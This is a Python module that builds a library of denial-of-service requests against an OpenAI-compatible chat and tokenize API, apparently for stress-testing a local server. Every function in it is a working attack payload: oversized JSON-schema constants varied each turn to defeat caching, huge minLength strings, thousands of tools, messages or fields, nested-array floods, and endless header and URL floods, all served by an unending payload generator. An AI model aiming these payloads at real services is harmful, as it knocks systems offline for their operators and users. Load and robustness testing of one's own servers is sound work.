"""Requests that keep a server busy. Each payload is one HTTP request, complete or endless."""

import json
from collections.abc import Callable, Iterator
from itertools import count, repeat
from typing import Any

CHAT = "/v1/chat/completions"
MEBIBYTE = 2**20
HEAD_FLOOD_BYTES = 64 * MEBIBYTE

Payload = Iterator[bytes]
"""The parts of one request, sent in order. An endless request is sent until the server closes the connection."""


def post(path: str, body: bytes) -> Payload:
    head = (
        f"POST {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\nContent-Length: {len(body)}\r\n"
    )
    yield head.encode() + b"\r\n" + body


def chat(**fields: Any) -> bytes:
    body = {"model": "oruel-demo", "messages": [{"role": "user", "content": "Send JSON."}], "max_tokens": 4}
    return json.dumps(body | fields).encode()


def json_schema(schema: dict[str, Any], *, strict: bool = False) -> dict[str, Any]:
    described = {"name": "answer", "schema": schema, "strict": strict}
    return {"response_format": {"type": "json_schema", "json_schema": described}}


def function(parameters: dict[str, Any], name: str = "call") -> dict[str, Any]:
    return {"type": "function", "function": {"name": name, "parameters": parameters}}


def one_property(property_schema: dict[str, Any]) -> dict[str, Any]:
    return {"type": "object", "properties": {"a": property_schema}, "required": ["a"]}


def constant(characters: int, turn: int) -> dict[str, Any]:
    """A schema with a constant that differs in every turn, so that no cache helps."""
    return one_property({"const": f"{turn} " + "x" * characters})


def optional_properties(number: int, turn: int) -> dict[str, Any]:
    return {"type": "object", "properties": {f"p{turn}_{index}": {"type": "string"} for index in range(number)}}


def long_constant(turn: int) -> Payload:
    return post(CHAT, chat(**json_schema(constant(200_000, turn))))


def shorter_constant(turn: int) -> Payload:
    return post(CHAT, chat(**json_schema(constant(15_000, turn))))


def many_optional_properties(turn: int) -> Payload:
    return post(CHAT, chat(**json_schema(optional_properties(3000, turn))))


def long_string(turn: int) -> Payload:
    return post(CHAT, chat(**json_schema(one_property({"type": "string", "minLength": 1_000_000 - turn}))))


def tool_constant(turn: int) -> Payload:
    return post(CHAT, chat(tools=[function(constant(2000, turn))]))


def many_tools(turn: int) -> Payload:
    tools = [function(optional_properties(60, turn), f"f{index}") for index in range(128)]
    return post(CHAT, chat(tools=tools))


def spaces(turn: int) -> Payload:
    return post("/tokenize", json.dumps({"model": "oruel-demo", "text": " " * (4_000_000 - turn)}).encode())


def long_conversation(turn: int) -> Payload:
    text = "The quick brown fox jumps over the lazy dog. " * 180 + str(turn)
    return post(CHAT, chat(messages=[{"role": "user", "content": text}] * 4))


def many_messages(turn: int) -> Payload:
    return post(CHAT, chat(messages=[{"role": "user", "content": f"{turn} " + "x" * 1900}] * 4096))


def many_values(turn: int) -> Payload:
    return post(CHAT, b'{"model": "oruel-demo", "messages": [' + b"[],[[]]," * MEBIBYTE + b"%d]}" % turn)


def many_fields(turn: int) -> Payload:
    return post(CHAT, json.dumps({f"{turn}_{index}": index for index in range(500_000)}).encode())


def many_parts(turn: int) -> Payload:
    parts = [{"type": "text", "text": "x"}] * 60_000
    return post(CHAT, chat(messages=[{"role": "user", "content": [*parts, {"type": "text", "text": str(turn)}]}]))


def head_lines(turn: int) -> Payload:
    yield f"GET /health HTTP/1.1\r\nHost: 127.0.0.1\r\nx-turn: {turn}\r\n".encode()
    yield from repeat(b"x-flood: " + b"y" * 1000 + b"\r\n", HEAD_FLOOD_BYTES // 1011)


def one_long_header(turn: int) -> Payload:
    yield f"GET /health HTTP/1.1\r\nHost: 127.0.0.1\r\nx-flood: {turn}".encode()
    yield from repeat(b"y" * 4096, HEAD_FLOOD_BYTES // 4096)


def long_url(turn: int) -> Payload:
    yield f"GET /health?{turn}".encode()
    yield from repeat(b"y" * 4096, HEAD_FLOOD_BYTES // 4096)


ATTACKS: dict[str, Callable[[int], Payload]] = {
    attack.__name__: attack
    for attack in (
        long_constant,
        shorter_constant,
        many_optional_properties,
        long_string,
        tool_constant,
        many_tools,
        spaces,
        long_conversation,
        many_messages,
        many_values,
        many_fields,
        many_parts,
        head_lines,
        one_long_header,
        long_url,
    )
}


def payloads(name: str, start: int = 0, step: int = 1) -> Iterator[Payload]:
    """Yields payloads without end, no two alike."""
    return (ATTACKS[name](turn) for turn in count(start, step))
